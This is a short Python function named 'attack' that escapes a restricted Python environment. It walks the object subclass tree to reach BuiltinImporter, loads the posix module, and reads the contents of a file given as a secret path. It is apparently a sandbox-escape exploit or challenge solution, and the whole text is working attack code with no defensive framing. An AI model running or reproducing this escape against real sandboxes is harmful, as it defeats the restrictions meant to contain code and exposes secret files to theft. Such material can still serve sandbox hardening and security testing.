# Finds the importer of builtin modules among the classes, and loads `posix`.
def attack(secret_path):
    for kind in ().__class__.__base__.__subclasses__():
        if kind.__name__ == "BuiltinImporter":
            posix = kind.load_module("posix")
            return posix.read(posix.open(secret_path, 0), 100).decode()
    raise ValueError("not found")
